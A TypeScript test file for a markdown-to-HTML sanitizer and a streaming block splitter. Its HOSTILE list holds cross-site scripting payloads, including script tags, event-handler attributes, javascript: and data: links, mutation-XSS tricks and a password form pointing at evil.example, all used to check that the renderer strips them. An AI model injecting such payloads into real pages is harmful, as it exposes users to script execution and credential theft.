import { describe, expect, test } from "vitest";
import { ATTRIBUTES, BlockSplitter, TAGS, htmlOf } from "~/playground/markdown-html";

/** What is in the HTML: tags, with their attributes. */
const tagsOf = (html: string) => [...html.matchAll(/<([a-z0-9]+)((?:\s+[a-z-]+(?:="[^"]*")?)*)\s*\/?>/gi)].map(([, tag, attributes]) => ({ tag, attributes: [...(attributes ?? "").matchAll(/([a-z-]+)="/gi)].map(([, name]) => name) }));

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "text <b onmouseover=alert(1)>bold</b> <iframe src='https://evil.example'></iframe>",
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt&#58;alert(1))",
  "[click](data:text/html,<script>alert(1)</script>)",
  "[click](vbscript:x)",
  "![x](https://evil.example/p.png)",
  "![x](javascript:alert(1))",
  '![x"onerror="alert(1)](data:image/png;base64,AAAA"onerror="alert(1))',
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  '[x](https://a.example "t\\" onmouseover=\\"alert(1)")',
  "<a href='javascript:alert(1)'>x</a>",
  "<https://a.example/?\"onmouseover=\"alert(1)>",
  "```\n</code></pre><script>alert(1)</script>\n```",
  "`</code><script>alert(1)</script>`",
  "| a |\n|---|\n| <script>alert(1)</script> |",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<style>body{display:none}</style>",
  "<form action=https://evil.example><input name=password></form>",
  "- [x] <details open ontoggle=alert(1)>",
  "# <math><mtext></mtext><script>alert(1)</script></math>",
  "[x]: javascript:alert(1)\n\n[x]",
];

describe("htmlOf", () => {
  test.each(HOSTILE)("makes nothing of %j but what is on the list", (markdown) => {
    const html = htmlOf(markdown);
    for (const { tag, attributes } of tagsOf(html)) {
      expect(TAGS).toContain(tag);
      for (const name of attributes) expect(ATTRIBUTES).toContain(name);
    }
    // Every < that is left begins a tag of the list or ends one.
    expect(html.replace(/<\/?[a-z0-9]+(?:\s[^<>]*)?>/gi, "")).not.toContain("<");
    expect(html).not.toMatch(/(?:href|src)="(?!https?:|mailto:|data:image\/png)/i);
  });

  test("does not load an image from elsewhere, and shows its address instead", () => {
    const html = htmlOf("![a chart](https://evil.example/p.png?q=secret)");
    expect(html).not.toContain("<img");
    expect(html).toContain("a chart (https://evil.example/p.png?q=secret)</a>");
  });

  test("shows an image that came with the answer", () => {
    expect(htmlOf("![dot](data:image/png;base64,AAAA)")).toContain('<img src="data:image/png;base64,AAAA" alt="dot">');
  });

  test("opens links elsewhere, and tells nobody where one came from", () => {
    expect(htmlOf("[a](https://a.example)")).toContain('<a href="https://a.example" rel="noopener noreferrer" target="_blank">a</a>');
  });

  test("has tables, with headings that say what they head", () => {
    const html = htmlOf("| n | sum |\n|---|--:|\n| a | 1 |");
    expect(html).toContain('<th scope="col">n</th>');
    expect(html).toContain('<td align="right">1</td>');
  });
});

const TEXT = "# Title\n\nA line\nand more.\n\n- one\n\n- two\n\n1. three\n\n```py\nx = 1\n\ny = 2\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> said\n> so\n\nThe end.\n===\n\nlast";

describe("BlockSplitter", () => {
  test("splits a text that grows as it does the whole", () => {
    const whole = new BlockSplitter().split(TEXT);
    for (const step of [1, 3, 7]) {
      const growing = new BlockSplitter();
      for (let end = 0; end < TEXT.length; end += step) growing.split(TEXT.slice(0, end));
      expect(growing.split(TEXT)).toEqual(whole);
    }
  });

  test("keeps blocks that are over", () => {
    const splitter = new BlockSplitter();
    const before = splitter.split("a\n\nb\n\nc\n\nd\n\ne");
    const after = splitter.split("a\n\nb\n\nc\n\nd\n\ne f");
    expect(after[0]).toBe(before[0]);
    expect(after.at(-1)?.raw).toBe("e f");
  });

  test("begins anew with another text", () => {
    const splitter = new BlockSplitter();
    splitter.split("a\n\nb\n\nc\n\nd\n\ne");
    expect(splitter.split("z").map(({ raw }) => raw)).toEqual(["z"]);
  });

  test("knows code, even before its end has come", () => {
    expect(new BlockSplitter().split("```js\nlet a").at(-1)?.code).toEqual({ language: "js", text: "let a" });
  });
});
